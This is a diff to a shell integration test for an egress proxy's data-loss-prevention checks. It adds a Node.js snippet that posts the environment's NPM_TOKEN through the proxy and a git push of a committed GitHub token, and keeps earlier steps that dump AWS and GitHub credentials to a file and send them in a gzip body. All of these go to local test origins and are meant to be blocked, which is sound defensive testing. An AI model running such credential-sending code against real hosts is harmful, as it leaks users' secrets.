@@ -1,28 +1,42 @@
 #!/usr/bin/env bash
-# DLP at the egress proxy (docs/dlp.md), with real clients in a real
-# sandbox over plain HTTP to a local origin: an honest JSON API session
-# passes with zero findings; a token in a header, a canary from the
-# environment (raw, base64'd in a URL, in a gzip body), one of the user's
-# real secrets (which the sandbox is not given, then smuggled in through a
-# file), a token split across chunks, a decompression bomb: each refused
-# with x-canister-error: dlp-blocked, a reason that names the detector and
-# where, a fingerprint in --events and never the value, and nothing of it
-# at the origin. A token goes to a host whose contract allows credentials
-# only when that host is its home.
+# DLP at the egress proxy (docs/dlp.md), with real clients (curl, python,
+# node, git) in a real sandbox over plain HTTP to local origins. An honest
+# JSON API session, a git clone and an honest push pass with zero
+# findings. Refused, each with x-canister-error: dlp-blocked, a reason that
+# names the detector and where, a fingerprint in --events and never the
+# value, and nothing of the value at the origin: a token in a header; a
+# canary from the environment (raw, base64'd in a URL, in a gzip body);
+# one of the user's real secrets (which the sandbox is not given, then
+# smuggled in through a file) and a ~/.npmrc token; a token split across
+# chunks; a token committed and pushed with git; a decompression bomb. A
+# token goes to a host whose contract allows credentials only when that
+# host is its home.
 if [ -f "${CAN_SRCDIR}/test/lib.sh" ]; then . "${CAN_SRCDIR}/test/lib.sh"; else . "${CAN_SRCDIR}/lib.sh"; fi
-t_drop_to_user "$CAN_SRCDIR/test/dlp_server.py" "$CAN_SRCDIR/test/dlp_client.py"
+t_drop_to_user "$CAN_SRCDIR/test/dlp_server.py" "$CAN_SRCDIR/test/dlp_client.py" \
+	"$CAN_SRCDIR/test/dlp_git_server.py"
 
 TOP=$(mktemp -d /tmp/candlp.XXXXXX)
 P=$TOP/proj
 mkdir -p "$P"
 cp "$CAN_SRCDIR/test/dlp_server.py" "$P/srv.py"
 cp "$CAN_SRCDIR/test/dlp_client.py" "$P/client.py"
+cp "$CAN_SRCDIR/test/dlp_git_server.py" "$TOP/gsrv.py"
 cd "$P" || exit 1
 python3 srv.py serve "$TOP/port" "$TOP/log" &
 SRV=$!
-trap 'kill $SRV 2>/dev/null; rm -rf "$TOP"' EXIT
+# git's smart HTTP (git http-backend) on a bare repository with one commit
+git init -q --bare "$TOP/git/repo.git" && git -C "$TOP/git/repo.git" config http.receivepack true
+git init -q "$TOP/seed" && echo hello >"$TOP/seed/README" && git -C "$TOP/seed" add README &&
+	git -C "$TOP/seed" -c user.name=t -c user.email=t@t commit -qm init &&
+	git -C "$TOP/seed" push -q "$TOP/git/repo.git" HEAD:refs/heads/main &&
+	git -C "$TOP/git/repo.git" symbolic-ref HEAD refs/heads/main
+python3 "$TOP/gsrv.py" "$TOP/gport" "$TOP/git" &
+GSRV=$!
+trap 'kill $SRV $GSRV 2>/dev/null; rm -rf "$TOP"' EXIT
 for _ in $(seq 100); do [ -s "$TOP/port" ] && break; sleep 0.05; done
+for _ in $(seq 100); do [ -s "$TOP/gport" ] && break; sleep 0.05; done
 PORT=$(cat "$TOP/port")
+G=host.canister.local:$(cat "$TOP/gport")
 H=host.canister.local:$PORT
 
 cat >dlp.toml <<'T'
@@ -77,6 +91,23 @@ t_grep "a base64'd canary in the URL: refused" 'canary.* in url.* after base64' 
 t_run inside sh -c "printf '%s\n' \"\$AWS_ACCESS_KEY_ID\" \"\$AWS_SECRET_ACCESS_KEY\" \"\$GITHUB_TOKEN\" >canaries.txt; python3 client.py post http://$H /v1/leak-gzip \"{\\\"t\\\":\\\"\$GITHUB_TOKEN\\\"}\" gzip"
 t_grep "python: a canary GitHub token in a gzip body: refused" '^403' "$T_OUT"
 t_grep "found after gzip" 'after gzip' "$T_OUT"
+# node: http.request to the proxy (node's own clients do not read HTTP_PROXY)
+cat >node_leak.js <<'JS'
+const http = require("http");
+const proxy = new URL(process.env.HTTP_PROXY);
+const body = JSON.stringify({ token: process.env.NPM_TOKEN });
+const req = http.request({ host: proxy.hostname, port: proxy.port, method: "POST",
+	path: "http://" + process.argv[2] + "/v1/leak-node",
+	headers: { Host: process.argv[2], "Content-Type": "application/json",
+		"Content-Length": Buffer.byteLength(body) } }, (res) => {
+	let out = "";
+	res.on("data", (d) => (out += d));
+	res.on("end", () => console.log(res.statusCode, res.headers["x-canister-error"], out));
+});
+req.end(body);
+JS
+t_run inside node node_leak.js "$H"
+t_grep "node: the canary NPM_TOKEN in a JSON body: 403 dlp-blocked" '^403 dlp-blocked .*canary NPM_TOKEN' "$T_OUT"
 # The proxy forwards a head that passed before the body arrives: the
 # origin may see the request line, never the value.
 t_grep "the canary GitHub token never reached the origin (even decompressed)" '^0$' \
@@ -111,6 +142,16 @@ t_run inside sh -c "(printf 'first part ghp_C3J27XDCG2'; sleep 0.5; printf 'LmlZ
 # After "100 Continue" the refusal can only cut the connection: said on stderr.
 t_grep "a token split across two chunks: refused" 'refused PUT .*github-pat-classic in body' "$T_ERR"
 t_grep "the whole token never reached the origin" '^0$' "$(at_origin "$GHP")"
+
+# --- git: an honest clone and push pass; a pushed token is refused ---
+GITC="-c user.name=t -c user.email=t@t"
+t_run inside sh -c "git clone -q http://$G/repo.git work && cd work && echo honest >a.txt && git add a.txt && git $GITC commit -qm honest && git push -q origin HEAD && echo pushed-honest"
+t_grep "git clone and an honest git push through the proxy pass" '^pushed-honest$' "$T_OUT"
+t_run inside sh -c "cd work && echo 'token $GHP' >leak.txt && git add leak.txt && git $GITC commit -qm leak && git push -q origin HEAD"
+t_grep "git push of a committed token: refused (inside the pack's zlib streams)" \
+	'refused POST .*github-pat-classic in body.* after deflate' "$T_ERR"
+t_grep "the origin repository has the honest commit, not the leak" '^honest$' \
+	"$(git -C "$TOP/git/repo.git" log -1 --format=%s main)"
 
 # --- bodies that are not what they claim ---
 python3 -c "import gzip,sys; sys.stdout.buffer.write(gzip.compress(b'\0' * (200 << 20)))" >bomb.gz
